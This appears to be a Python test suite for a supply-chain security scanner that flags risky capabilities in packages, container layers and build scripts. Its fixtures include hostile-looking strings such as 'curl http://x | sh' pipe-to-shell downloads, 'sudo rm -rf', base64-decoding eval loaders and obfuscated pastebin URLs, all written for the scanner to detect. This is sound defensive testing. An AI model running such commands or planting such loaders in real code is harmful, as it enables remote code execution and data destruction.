from __future__ import annotations

import base64
import io
import tarfile

from pyspark.sql import functions as F

from plumbline.functions import code as C
from plumbline.operators import analysis, feeds, policy, resolve
from plumbline.operators import files as FI
from plumbline.operators import heuristics as H
from plumbline.operators import reports as RP
from plumbline.operators import risk as K
from plumbline.operators import scripts as SC
from plumbline.sources import archives


def test_code_scan_ignores_comments_and_methods(spark):
    rows = [
        ("a.js", "// eval(x)\nconst s = '// not a comment'; fetch(u)", ["net-egress"]), ("b.js", "obj.eval(1); /* fetch(x) */ const e = 1", []), ("c.py", "import os\nos.system('x') # eval(1)\nopen('f', 'w')", ["shell-spawn", "fs-write-outside-root"]),
        ("d.go", 'base64.StdEncoding.DecodeString(x)\nhttp.Get("http://1.2.3.4/")', ["base64-decode", "net-egress", "raw-ip-literal"]), ("e.rb", "Net::HTTP.get(u)\n`ls`", ["shell-spawn", "net-egress"]), ("f.java", "Runtime.getRuntime().exec(x);", ["shell-spawn"]),
        ("g.cs", "Process.Start(x); // new Socket()", ["shell-spawn"]), ("h.php", "<?php $x = base64_decode($y); eval($x);", ["dynamic-eval", "base64-decode"]), ("i.rs", "Command::new(\"x\")", ["shell-spawn"]), ("j.lua", "os.execute(x) -- io.open(y)\nffi.load(z)", ["shell-spawn", "install-hook-exec"]),
        ("k.sh", "curl http://x | sh\n", ["net-egress", "shell-spawn"]), ("l.txt", "eval(x)", None), ("m.ex", "System.cmd(\"x\", [])", ["shell-spawn"]), ("n.js", "process.env.AWS_KEY", ["env-read"]),
    ]
    frame = spark.createDataFrame([r[:2] for r in rows], "path string, body string")
    got = {r["path"]: r for r in analysis.file_capabilities(frame).collect()}
    assert {p: sorted(r["capabilities"]) for p, r in got.items()} == {p: sorted(c) for p, _, c in rows if c is not None}
    assert got["n.js"]["env_reads"] == ["AWS_KEY"]


def test_imports(spark):
    rows = [("a.js", "import x from 'a/b'; const y = require(\"c\"); import('d'); // require('no')", {"a/b", "c", "d"}), ("b.py", "import os.path\nfrom .x import y\n# import no", {"os.path", ".x"}), ("c.go", 'import (\n\t"fmt"\n\tx "h/y"\n)', {"fmt", "h/y"}), ("d.rs", "use a::b;\nextern crate c;", {"a::b", "c"}), ("e.java", "import static a.b.C;", {"a.b.C"}), ("f.rb", "require 'x/y'", {"x/y"}), ("g.cs", "using A.B;", {"A.B"})]
    got = {}
    for r in analysis.file_imports(spark.createDataFrame([r[:2] for r in rows], "path string, body string")).collect():
        got.setdefault(r["path"], set()).add(r["module"])
    assert got == {p: m for p, _, m in rows}


def test_python_facts_and_js_symbols(spark):
    text = "import a.b as c\nfrom d import e as f\nclass K:\n    def g(self):\n        c.run(1)\n        return f()\ng()\n"
    frame = spark.createDataFrame([("x.py", text), ("bad.py", "def ("), ("y.js", "const l = require('lodash'); l.merge(a); import { x, y as z } from 'm'; import * as q from 'n'; q.go()")], "path string, body string")
    facts = analysis.python_facts(frame)
    assert {(r["function"], r["module"], r["symbol"]) for r in analysis.symbol_sites(facts).collect()} == {("g", "a", "run"), ("g", "d", "e")}
    assert {(r["caller"], r["callee"]) for r in analysis.call_edges(facts).collect()} == {("g", "run"), ("g", "f"), ("<module>", "g")}
    mine = analysis.symbol_sites(analysis.source_facts(frame)).where("file = 'y.js'").collect()
    assert {(r["module"], r["symbol"]) for r in mine} == {("lodash", "merge"), ("n", "go")}  # names that are imported but not used count for nothing


def test_layers_to_overlay(spark):
    def tar(entries):
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w:gz") as t:
            for name, body in entries:
                info = tarfile.TarInfo(name)
                info.size = len(body)
                t.addfile(info, io.BytesIO(body))
        return out.getvalue()

    layers = [("i", 0, tar([("./a/b", b"1"), ("a/c", b"2"), ("../d", b"3")])), ("i", 1, tar([("a/.wh..wh..opq", b""), (".wh.d", b""), ("a/e", b"4")])), ("j", 0, None)]
    rows = archives.layer_entries(spark.createDataFrame(layers, "image string, layer int, content binary"))
    assert {(r["image"], r["path"]) for r in FI.overlay(rows).collect()} == {("i", "a/e")}


def test_feeds(spark):
    epss = feeds.parse_epss(spark.createDataFrame([('{"data":[{"cve":"C","epss":"0.5","percentile":"0.9"},{"cve":"D","epss":"x","percentile":"1"}]}',)], "json string"))
    assert [tuple(r) for r in epss.collect()] == [("C", 0.5, 0.9)]
    assert [r[0] for r in feeds.parse_kev(spark.createDataFrame([('{"vulnerabilities":[{"cveID":"C"},{"cveID":""},{}]}',)], "json string")).collect()] == ["C"]
    stubs = feeds.with_stubs(spark.createDataFrame([("a",), ("b",)], "id string"), spark.createDataFrame([("a", "high", "s")], "id string, severity string, summary string"))
    assert {(r["id"], r["severity"]) for r in stubs.collect()} == {("a", "high"), ("b", "info")}
    got = feeds.imposed_registry(spark.createDataFrame([("@s/x",), ("y",)], "name string"), spark.createDataFrame([("@s", "https://s"), ("", "https://d")], "scope string, url string"))
    assert {tuple(r) for r in got.select("name", "registry").collect()} == {("@s/x", "https://s"), ("y", "https://d")}
    none = feeds.imposed_registry(spark.createDataFrame([("y",)], "name string"), spark.createDataFrame([], "scope string, url string"))
    assert none.first()["registry"] == "https://registry.npmjs.org"
    cache = spark.createDataFrame([("a", "2024-01-01 00:00:00"), ("b", "2024-01-02 00:00:00")], "k string, t string").withColumn("fetched_at", F.col("t").cast("timestamp"))
    assert [r["k"] for r in feeds.fresh(cache, F.lit("2024-01-02 12:00:00").cast("timestamp"), 43200).collect()] == ["b"]


def test_resolution(spark):
    versions = spark.createDataFrame([("p", v, y) for v, y in [("1.0.0", False), ("1.2.0", False), ("1.9.0", True), ("2.0.0-rc.1", False), ("2.0.0", False)]], "name string, version string, yanked boolean")
    asked = lambda *rs: spark.createDataFrame([("p", r) for r in rs], "name string, request string")
    tags = spark.createDataFrame([("p", "latest", "1.2.0"), ("p", "next", "2.0.0-rc.1")], "name string, tag string, version string")
    assert {r["request"]: r["resolved"] for r in resolve.resolve_npm(asked("", "next", "^1", "2.0.0", ">=3"), versions, tags).collect()} == {"": "1.2.0", "next": "2.0.0-rc.1", "^1": "1.9.0", "2.0.0": "2.0.0", ">=3": None}
    assert {r["request"]: r["resolved"] for r in resolve.resolve_crates(asked("1", "=1.0.0"), versions).collect()} == {"1": "1.2.0", "=1.0.0": "1.0.0"}
    assert {r["request"]: r["resolved"] for r in resolve.resolve_pypi(asked("~=1.0", "==1.*", ">=1, <2, !=1.9.0", "==2.0.0"), versions).collect()} == {"~=1.0": "1.9.0", "==1.*": "1.9.0", ">=1, <2, !=1.9.0": "1.2.0", "==2.0.0": "2.0.0"}
    got = spark.createDataFrame([("1.2.3",), ("v1.2.3-rc",), ("^1.2.3",), ("1.x",), ("1.2",), ("1.2.3x",)], "r string").select(resolve.is_exact(F.col("r"))).collect()
    assert [r[0] for r in got] == [True, True, False, False, False, False]


def test_policies(spark):
    rules = policy.builtin_rules(spark)
    assert rules.count() == 20 and policy.invalid_rules(rules).count() == 0
    bad = spark.createDataFrame([(1, "npm", "x", "> 1", "net-egress", ""), (2, "npm", "x", "", "odd", ""), (3, "npm", "", "", None, ""), (4, "npm", "x", "^1", None, "")], "rule_ord int, ecosystem string, name string, version_range string, capability string, reason string")
    assert sorted(r["rule_ord"] for r in policy.invalid_rules(bad).collect()) == [1, 2, 3]
    assert [r["rule_ord"] for r in policy.layered(rules.limit(1), bad.limit(1)).orderBy("rule_ord").collect()] == [0, 1_000_001]
    top = policy.explain(spark).first()
    assert (top["capability"], top["weight"]) == ("known-malware-ioc", 100)
    frame = spark.createDataFrame([(" " + "x" * 200 + " ",), ("ab ",)], "t string")
    assert [len(r[0]) for r in frame.select(policy.truncate(F.col("t"))).collect()] == [161, 2]
    caps = lambda rows: spark.createDataFrame(rows, "name string, capabilities array<string>, hooks map<string,string>")
    got = policy.baseline_drift(caps([("a", ["x"], {}), ("b", ["x"], {"install": "1"})]), caps([("a", ["x", "y"], {}), ("b", ["x"], {"install": "2"}), ("c", [], {})]), ["name"]).collect()
    assert {(r["name"], tuple(r["new_capabilities"]), r["hook_drift"]) for r in got} == {("a", ("y",), False), ("b", (), True)}
    assert policy.schema_problems(spark.createDataFrame([(1,), (2,), (None,)], "schema_version int")).count() == 2


def test_more_script_rules(spark):
    day = 86400
    rows = [("a", 1, 1000 * day, 1100 * day, 500 * day), ("b", 2, 0, 0, 0), ("c", 1, 865 * day, 1100 * day, 500 * day), ("d", 1, 1000 * day, 1730 * day, 500 * day), ("e", 1, None, 0, None)]
    got = SC.stale_history_findings(spark.createDataFrame(rows, "package string, root_count int, oldest_commit long, now long, first_submitted long")).collect()
    assert {(r["package"], r["rule"]) for r in got} == {("a", "history-recently-wiped"), ("b", "multiple-root-commits")}
    assert [r["package"] for r in SC.denied_packages(spark.createDataFrame([(" firefox-patch-bin ",), ("firefox",)], "package string")).collect()] == [" firefox-patch-bin "]
    text = "source=('a b' \"c\"\n d)\n"
    assert spark.createDataFrame([(text,)], "t string").select(SC.bash_array(F.col("t"), "source")).first()[0] == ["a b", "c", "d"]


def test_reports(spark):
    digest = base64.b64encode(bytes(range(64))).decode()
    deps = spark.createDataFrame([("p", "npm", "a", "1", True, f"sha512-{digest}"), ("p", "npm", "b", "2", False, "sha1-x")], "project string, ecosystem string, name string, version string, direct boolean, integrity string")
    parts = {r["name"]: r for r in RP.components(deps).collect()}
    assert parts["a"]["sha512"] == bytes(range(64)).hex() and parts["b"]["sha512"] is None and parts["b"]["scope"] == "optional"
    adv = spark.createDataFrame([("npm", "a", "X", "high")], "ecosystem string, name string, id string, severity string")
    doc = RP.cyclonedx(deps, adv, "project", "t", "s").first()["document"]
    assert '"specVersion":"1.5"' in doc and '"id":"X"' in doc and '"dependsOn":["pkg:npm/a@1"]' in doc and f'"content":"{bytes(range(64)).hex()}"' in doc
    nodes = {r["ref"]: r["children"] for r in RP.dependency_nodes(deps.withColumn("depends_on", F.expr("if(name = 'a', array('npm/b@2', 'npm/c@3'), null)")), "project").collect()}
    assert nodes == {"pkg:npm/a@1": ["pkg:npm/b@2"], "pkg:npm/b@2": []}
    spdx = RP.spdx(deps, "project", "t").first()["document"]
    assert "DYNAMIC_LINK" in spdx and "SPDXRef-Package-npm-a-1" in spdx
    log = RP.sarif(RP.sarif_results(spark.createDataFrame([("npm", "a", "1", "X", "bad", 3)], "ecosystem string, name string, version string, id string, summary string, severity int")).withColumn("g", F.lit(1)), "tool", "g").first()["document"]
    assert '"text":"X: bad (high)"' in log and '"level":"error"' in log
    gate = K.gate(spark.createDataFrame([(True, 3, False), (False, 0, False), (False, 0, True), (True, 1, False)], "verified boolean, verdict int, uncertain_parse boolean")).collect()
    assert [r["action"] for r in gate] == ["block", "block-unchecked", "warn-unchecked", "proceed"]


def test_language_table(spark):
    got = spark.createDataFrame([("a.TSX",), ("b.kt",), ("c",), ("d.podspec",)], "p string").select(C.scanned_language(F.col("p"))).collect()
    assert [r[0] for r in got] == ["js", "kotlin", None, "cocoapods"]


def test_lexical_symbols_and_calls(spark):
    rows = [
        ("a.go", 'package m\nimport (\n\t"net/http"\n\tx "h/y"\n)\nfunc f() { http.Get(u); x.Do() }\nfunc (r *R) g() { f() }\n'), ("b.rs", "use a::b;\nuse c::d as e;\nfn f() { b::run(); e::go(); }"),
        ("c.php", "<?php\nuse A\\B;\nfunction f() { B::make(); strlen($x); }\nf();"), ("d.js", "g();\nfunction f(a) { if (a) { h(a); } }\nconst k = (x) => f(x);"), ("e.rb", "require 'json'\nJson.parse(x)"),
    ]
    frame = spark.createDataFrame(rows, "path string, body string")
    facts = analysis.code_facts(frame)
    got = {(r["file"], r["module"], r["symbol"]) for r in analysis.symbol_sites(facts).collect()}
    assert got == {("a.go", "net/http", "Get"), ("a.go", "h/y", "Do"), ("b.rs", "a", "run"), ("b.rs", "c", "go"), ("c.php", "A\\B", "make")}
    calls = {(r["file"], r["caller"], r["callee"]) for r in analysis.call_edges(facts).collect()}
    assert calls == {("a.go", "f", "Get"), ("a.go", "f", "Do"), ("a.go", "g", "f"), ("c.php", "f", "make"), ("c.php", "f", "strlen"), ("c.php", "<module>", "f"), ("d.js", "<module>", "g"), ("d.js", "f", "h"), ("d.js", "k", "f")}


def test_second_pass_reads_no_comments(spark):
    rows = [("a.js", "/* let v = atob(p); */ fetch(v)"), ("b.js", "// const v = atob(p)\nre.exec(v)"), ("c.js", "const v = atob(p)\nre.exec(v) // x"), ("d.js", "use([1e2]); const a = [1.04e2, 116, 116, 112, 58, 47, 47, 112, 97, 115, 116, 101, 46, 101, 101]")]
    got = {r["path"]: set(r["capabilities"]) for r in analysis.file_capabilities(spark.createDataFrame(rows, "path string, body string")).collect()}
    assert got == {"a.js": {"net-egress"}, "b.js": set(), "c.js": {"base64-decode", "shell-spawn"}, "d.js": {"suspicious-url"}}


def test_javascript_second_pass():
    from plumbline.functions.second_pass import capabilities, declarations

    codes = lambda t: ", ".join(str(ord(c)) for c in t)
    url = "https://pastebin.com/x"
    cases = {
        f"const a = [{codes(url)}];": {"suspicious-url"}, f"a = [{codes(url)}];": set(), f"f(String.fromCharCode({codes('curl x | sh')}))": {"install-hook-suspicious"},
        f"const a = [{codes(url)}], b = String.fromCharCode(...a)": {"suspicious-url"}, "const a = [1, x, 2]; eval(a)": set(), f"var a = [{codes('plain')}]": set(),
        "const v = atob(x);\neval(v)": {"dynamic-eval"}, "const v = atob(x).length;\neval(v)": set(), "let v = Buffer.from(p(1, 2), 'base64'), w;\nnew Function (w, v)()": {"dynamic-eval"},
        "let v = Buffer.from(p, 'hex');\neval(v)": set(), "const v = atob(x); medieval(v); my$eval(v); eval(vv); eval(a.v$)": set(), "const v = atob(x); fetch(u + v).then(f)": {"net-egress"}, "const v = atob(x)\nspawn(a(b), v)": set(),
        "const { v } = atob(x); eval(v)": set(), "const é = atob(x); exec(é)": {"shell-spawn"}, "const a = [99999999999]": set(), "const s = `${'; const q = 1'}`; let v = btoa(s); execSync(v)": {"shell-spawn"}, "const": set(), "const a = [": set(), "let v = atob(": set(),
    }
    for text, want in cases.items():
        assert capabilities(text) == want, text
    assert dict(declarations("let a = f(1, 2), b = [3,\n4]\nvar c: string = 'x;y';")) == {"a": "f(1, 2)", "b": "[3,\n4]", "c": "'x;y'"}
    import time

    began = time.process_time()
    for text in ("const a = " + "(" * 200000, "const a = 1, " * 50000, "eval(" * 100000 + "const v = atob(x)", "String.fromCharCode(" * 50000):
        capabilities(text)
    assert time.process_time() - began < 20


def test_layers_that_are_cut_or_broken(monkeypatch):
    import io
    import tarfile

    def layer(names):
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w:gz") as tar:
            for name in names:
                info = tarfile.TarInfo(name)
                info.size = 10
                tar.addfile(info, io.BytesIO(b"0123456789"))
        return out.getvalue()

    whole = layer(["a", "b", "c"])
    assert [(p, k) for p, k, *_ in archives.entries(whole)] == [("a", "file"), ("b", "file"), ("c", "file")]
    assert [k for _, k, *_ in archives.entries(whole[:40])][-1] == "broken" and [k for _, k, *_ in archives.entries(b"no tar")] == ["broken"]
    monkeypatch.setattr(archives, "MOST_ENTRIES", 2)
    monkeypatch.setattr(archives, "MOST_FILE", 4)
    assert [(p, k, n) for p, k, _, n, _ in archives.entries(whole)] == [("a", "file", 10), ("a", "truncated", 4), ("b", "file", 10), ("b", "truncated", 4), ("", "truncated", 8)]


def test_image_layers(spark):
    rows = [
        ("i", "index.json", b'{"manifests":[{"digest":"sha256:m"}]}'), ("i", "blobs/sha256/m", b'{"layers":[{"digest":"sha256:x"},{"digest":"sha256:y"}]}'), ("i", "blobs/sha256/x", b"1"), ("i", "blobs/sha256/y", b"2"),
        ("j", "manifest.json", b'[{"Layers":["b/layer.tar","a/layer.tar"]}]'), ("j", "a/layer.tar", b"3"), ("j", "b/layer.tar", b"4"), ("k", "manifest.json", b"broken"),
    ]
    got = archives.image_layers(spark.createDataFrame(rows, "image string, path string, content binary")).collect()
    assert sorted((r["image"], r["layer"], bytes(r["content"])) for r in got) == [("i", 0, b"1"), ("i", 1, b"2"), ("j", 0, b"4"), ("j", 1, b"3")]


def test_fleet_run(spark):
    from plumbline.operators import fleet

    task = "task string, ecosystem string, checks array<string>, deny_licenses array<string>"
    tasks = spark.createDataFrame([("a", "npm", ["ast", "cve", "unused-deps"], None), ("b", "npm", ["deprecated", "license"], ["MIT", "gpl-3.0"]), ("c", "npm", ["license"], ["mit"]), ("d", "npm", [], ["mit"]), ("e", "npm", ["heuristics", "cve"], [])], task)
    files = spark.createDataFrame([("a", "x.js", "require('left'); eval(1)"), ("e", "router_init.js", "1"), ("d", "router_init.js", "1")], "task string, path string, body string")
    versioned = "ecosystem string, name string, version string"
    deps = spark.createDataFrame([(t, "npm", n, v) for t in "abcde" for n, v in (("p", "1"), ("p", "1"), ("q", "2"), ("r", ""))], f"task string, {versioned}")
    advisories = spark.createDataFrame([("npm", "p", "1", "A", 2), ("npm", "p", "1", "B", 1), ("npm", "q", "9", "C", 4), ("npm", "r", "", "D", 4)], f"{versioned}, id string, severity int")
    health = spark.createDataFrame([("npm", "q", "2", True), ("npm", "p", "1", False)], f"{versioned}, deprecated boolean")
    licenses = spark.createDataFrame([("npm", "p", "1", "mit"), ("npm", "q", "2", "Apache-2.0")], f"{versioned}, license string")
    declared = spark.createDataFrame([("a", "left"), ("a", "right"), ("b", "right")], "task string, dep_name string")
    rules = spark.createDataFrame([], "rule_ord int, ecosystem string, name string, version_range string, capability string, reason string")
    got = {r["task"]: tuple(r)[1:] for r in fleet.run(tasks, files, deps, advisories, health, licenses, declared, rules).collect()}
    assert got == {
        "a": ("safe", 15, 2, 0, 0, ["right"], False), "b": (None, 0, 0, 1, 1, [], True), "c": (None, 0, 0, 0, 1, [], True), "d": (None, 0, 0, 0, 0, [], False), "e": ("block", 100, 2, 0, 0, [], True),
    }


def test_source_findings_reach_the_end_of_long_texts(spark):
    from plumbline.operators import fleet

    cap = 256 * 1024
    pads = ["x" * (cap - 5), "x" * cap + " ", "é\n" * cap, "word\n" * (1 << 18)]  # across the 256th KiB, after it, in wide characters, well beyond
    signs = [
        ("obfuscated-payload", "a.js", "; eval(atob(x))"), ("obfuscated-payload", "a.js", "; eval(Buffer.from(x, 'base64'))"), ("obfuscated-payload", "a.py", "; exec(base64.b64decode(x))"),
        ("suspicious-url", "a.rb", " HTTPS://PasteBin.com/x"), ("suspicious-url", "a.js", " 'https://pas' + 'tebin.com/x'"), ("install-hook-suspicious", "a.go", " WGET http://h/x | sh"),
    ]
    rows = [(f"{i}.{j}", path, pad + sign) for i, pad in enumerate(pads) for j, (_, path, sign) in enumerate(signs)] + [("none", "a.js", None), ("empty", "a.js", ""), ("other", "a.txt", signs[0][2]), ("clean", "a.js", pads[-1])]
    frame = spark.createDataFrame(rows, "id string, path string, body string")
    got = {r["id"]: r["capabilities"] for r in H.source_findings(frame).select("id", "capabilities").collect()}
    assert got == {f"{i}.{j}": [cap] for i in range(len(pads)) for j, (cap, _, _) in enumerate(signs)} | {k: [] for k in ("none", "empty", "other", "clean")}

    tasks = spark.createDataFrame([(t, "npm", ["heuristics", "unused-deps"], []) for t in "ab"], "task string, ecosystem string, checks array<string>, deny_licenses array<string>")
    files = spark.createDataFrame([("a", "x.js", "/* " + pads[-1] + " */ require('left'); eval(atob(x))"), ("a", "notes.txt", "require('right')"), ("b", "x.js", "eval(atob(x))")], "task string, path string, body string")
    facts = [spark.createDataFrame([], f"ecosystem string, name string, version string{more}") for more in (", id string, severity int", ", deprecated boolean", ", license string")]
    deps, declared = spark.createDataFrame([], "task string, ecosystem string, name string, version string"), spark.createDataFrame([("a", "left"), ("a", "right"), ("b", "left")], "task string, dep_name string")
    rules = spark.createDataFrame([], "rule_ord int, ecosystem string, name string, version_range string, capability string, reason string")
    told = {r["task"]: (r["verdict"], r["score"], r["unused"]) for r in fleet.run(tasks, files, deps, *facts, declared, rules).collect()}
    assert told == {"a": ("prompt", 87, ["right"]), "b": ("prompt", 87, ["left"])}


def test_long_texts_of_openings_end_soon(spark):
    import time

    texts = ["eval(Buffer.from(" * 100000, "eval(Buffer.from('base64)" * 50000, "curl " * 200000, "\"\" + " * 200000, "eval(" + " " * 1000000]
    hit = ["eval(Buffer.from(x), eval(Buffer.from(y, 'base64'", ")eval(Buffer.from(eval(Buffer.from('base64'", "a)b require ( Buffer . from (\n'base64'"]
    miss = ["eval(Buffer.from(x), 'base64')", "'base64' eval(Buffer.from(", "evals(Buffer.from('base64'", "xeval(Buffer.from('base64'"]
    frame = spark.createDataFrame([(i, "a.js", t) for i, t in enumerate([*texts, *hit, *miss])], "id int, path string, body string")
    began = time.monotonic()
    got = {r["id"]: r["capabilities"] for r in H.source_findings(frame).select("id", "capabilities").collect()}
    assert time.monotonic() - began < 60
    assert [got[i] for i in range(len(got))] == [[]] * len(texts) + [["obfuscated-payload"]] * len(hit) + [[]] * len(miss)


def test_heuristics_beyond_one_file(spark):
    files = spark.createDataFrame([("npm", "lodahs", "1", "big.js", "x" * 600000), ("npm", "ok", "1", "a.js", "AKIA" + "ABCDEFGHIJKLMNOP"), ("go", "m", "v1.1.0", "a.go", "package m")], "ecosystem string, name string, version string, path string, body string")
    listed = spark.createDataFrame([("npm", "lodahs", "lib")], "ecosystem string, name string, path string")
    manifest = spark.createDataFrame([("npm", "ok", "1", "github:a/b", "optional"), ("npm", "ok", "1", "^1", "runtime")], "ecosystem string, name string, version string, spec string, dep_group string")
    retractions = spark.createDataFrame([("go", "m", "v1.0.0", "v1.2.0")], "ecosystem string, name string, low string, high string")
    top = spark.createDataFrame([("npm", "lodash")], "ecosystem string, name string")
    more = analysis.heuristic_capabilities(files, listed, manifest, retractions, top)
    want = {("lodahs", "unlisted-large-file"), ("lodahs", "typosquat-risk"), ("ok", "hardcoded-secret"), ("ok", "vcs-dependency"), ("ok", "git-dep-in-optional"), ("m", "version-unpublished")}
    assert {(r["name"], r["capability"]) for r in more.collect()} == want
    hooks = spark.createDataFrame([], "ecosystem string, name string, version string, phase string, body string")
    prints = {r["name"]: set(r["capabilities"]) for r in analysis.fingerprints(files, hooks, more).collect()}
    assert all(c in prints[n] for n, c in want) and len(prints) == 3


def test_build_files_under_one_key_do_not_touch(spark):
    files = [("p", "depends=(\n 'x'\n)\nsudo rm -rf a"), ("p", "make\ncurl http://h/x | sh\nmake\nmake"), ("q", None), ("q", "")]
    frame = spark.createDataFrame(files, "package string, text string")
    got = {(r["package"], r["line"], r["rule"]) for r in SC.build_file_findings(frame).collect()}
    alone = {(r["package"], r["line"], r["rule"]) for f in files for r in SC.build_file_findings(spark.createDataFrame([f], "package string, text string")).collect()}
    assert got == alone and ("p", 2, "download-exec") in got
    plan = SC.running_lines(frame, "package", "text")._jdf.queryExecution().toString()
    assert "Exchange" not in plan and "Window" not in plan
    sources = spark.createDataFrame([("p", "# https://t.co/a\nsource=(https://bit.ly/x)"), ("p", "see https://t.co/b")], "package string, text string")
    assert [r["url"] for r in SC.source_findings(sources).collect()] == ["https://bit.ly/x"]
